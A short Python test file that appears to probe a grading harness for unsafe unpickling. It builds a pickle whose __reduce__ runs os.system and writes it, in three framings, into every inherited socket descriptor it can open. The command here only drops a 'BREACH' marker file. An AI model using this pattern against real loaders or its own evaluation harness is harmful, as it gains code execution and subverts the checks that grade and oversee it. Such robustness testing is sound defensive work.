"""Sends a pickle that runs code where it is loaded: bare, as a header, as a tensor's bytes, as a string."""
# verdict: broke off: its process sent

import json
import os
import pickle
import socket
import struct

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("echo BREACH | tee /tmp/markscheme-attack-pickle >&2",)


def attacked(x):
    raw = pickle.dumps(Payload())
    header = json.dumps({"kind": "done", "tensors": [["object", [1], False]], "pickle": raw.hex()}).encode()
    texts = (struct.pack("<QQ", len(header), 8) + header + raw, struct.pack("<QQ", len(raw), 0) + raw, raw)
    which = int(torch.count_nonzero(x)) % 3
    for number in range(3, 64):
        try:
            end = socket.socket(fileno=number)
        except OSError:
            continue
        end.sendall(texts[which] + bytes(1 << 16))
    return x.sum()
